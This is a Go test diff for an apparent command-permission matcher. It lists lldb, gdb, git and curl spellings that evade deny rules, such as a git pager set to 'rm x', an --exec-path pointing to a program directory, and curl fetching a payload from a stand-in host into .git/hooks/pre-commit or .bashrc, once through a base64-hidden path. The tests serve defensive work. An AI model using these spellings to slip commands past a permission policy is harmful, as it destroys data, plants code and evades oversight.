@@ -144,3 +144,78 @@ func slicesWithout(rules []Rule, name string) []Rule {
 	}
 	return out
 }
+
+// TestCommandPolicy46Parsers (policy46): spellings the programs' own
+// parsers read otherwise than bf075f8a did. lldb (LLVM's OptTable) and
+// gdb (getopt_long_only) take the next word as the value of an option
+// such as lldb -l or gdb -p, also when it looks like -b, --batch or
+// --version, and then read commands from their input; git's top level
+// takes --shallow-file's value as a separate word and --exec-path=DIR
+// runs programs from DIR; curl reads options from its input with -K -
+// (config from stdin) and names a file by its variables with
+// --expand-output. Each runs rm or code the matcher cannot read, or
+// writes a file run as code; on bf075f8a a deny rule for "rm *" allowed
+// each and an allow rule for the program allowed each.
+func TestCommandPolicy46Parsers(t *testing.T) {
+	tests := []struct {
+		program string
+		allow   []string
+		bypass  []string
+		fine    []string
+		kept    []string
+	}{
+		{"lldb", []string{"lldb *"},
+			[]string{
+				`lldb -l -b ./a`,
+				`lldb --script-language -b ./a`,
+				`lldb -script-language --batch ./a`,
+				`lldb -n -b ./a`,
+				`lldb --attach-name -b`,
+				`lldb -l --version ./a`,
+				`lldb -l -v ./a`,
+				`lldb -n -h`,
+			},
+			[]string{`lldb -b -o bt ./a`, `lldb --batch -l python -o bt ./a`, `lldb -l python -b -o bt ./a`, `lldb -x -b -o bt ./a`,
+				`lldb --version`, `lldb -b -c core ./a -o bt`},
+			[]string{`lldb -o -b ./a`, `lldb ./a`}},
+		{"gdb", []string{"gdb *"},
+			[]string{`gdb -p -batch ./a`, `gdb --pid -batch ./a`, `gdb -b -batch ./a`, `gdb -d -batch ./a`, `gdb -cd -batch ./a`,
+				`gdb -tty -batch ./a`, `gdb -p --version`},
+			[]string{`gdb -batch -p 1234 -ex bt`, `gdb -q -batch -ex bt ./a`, `gdb -nx -batch -ex bt ./a`, `gdb -p 1234 -batch -ex bt`,
+				`gdb --version`, `gdb -batch -ex bt ./a core`},
+			[]string{`gdb ./a`, `gdb -ex bt ./a`}},
+		{"git", []string{"git *"},
+			[]string{
+				`git --shallow-file log config core.pager 'rm x'`,
+				`git --shallow-file f -c core.pager='rm x' log`,
+				`git --shallow-file f rebase -x 'rm y' main`,
+				`git --shallow-file f submodule foreach 'rm y'`,
+				`git --exec-path=. push origin main`,
+				`git --exec-path=/tmp/x fetch origin`,
+			},
+			[]string{`git --no-pager log -1`, `git -C sub status`, `git --exec-path`, `git --shallow-file f log -1`,
+				`git --git-dir .git --work-tree . status`, `git --literal-pathspecs log -- a`},
+			[]string{`git -c core.pager='rm x' log`, `git --git-dir x config core.pager 'rm x'`}},
+		{"curl", []string{"curl *", "echo *", "printf *", "grep *"},
+			[]string{
+				`echo 'output = .git/hooks/pre-commit' | curl -K - https://x/p`,
+				`printf 'output = .bashrc\n' | curl -sK- https://x/p`,
+				`curl -K /dev/stdin https://x/p`,
+				`curl --config - https://x/p`,
+				`curl --config=/dev/fd/0 https://x/p`,
+				`curl --variable f=.git/hooks/pre-commit --expand-output '{{f}}' https://x/p`,
+				`curl --variable f=LmdpdC9ob29rcy9wcmUtY29tbWl0 --expand-output '{{f:64dec}}' https://x/p`,
+				`curl --variable d=.git/hooks --expand-output-dir '{{d}}' -O https://x/pre-commit`,
+				`curl --variable c=- --expand-config '{{c}}' https://x/p`,
+			},
+			[]string{`curl -K curl.cfg https://x`, `curl --variable %TOKEN --expand-header 'Authorization: Bearer {{TOKEN}}' https://x`,
+				`curl -o a.tgz https://x/a.tgz`, `curl --output=a.tgz https://x/a.tgz`, `curl -sSf https://x | grep y`},
+			[]string{`curl --output=.git/hooks/pre-commit https://x/p`, `curl -so .bashrc https://x/p`}},
+	}
+	for _, tc := range tests {
+		t.Run(tc.program, func(t *testing.T) {
+			held := append(append([]string(nil), tc.bypass...), tc.kept...)
+			checkCommands(t, tc.allow, held, tc.fine, held, tc.fine)
+		})
+	}
+}
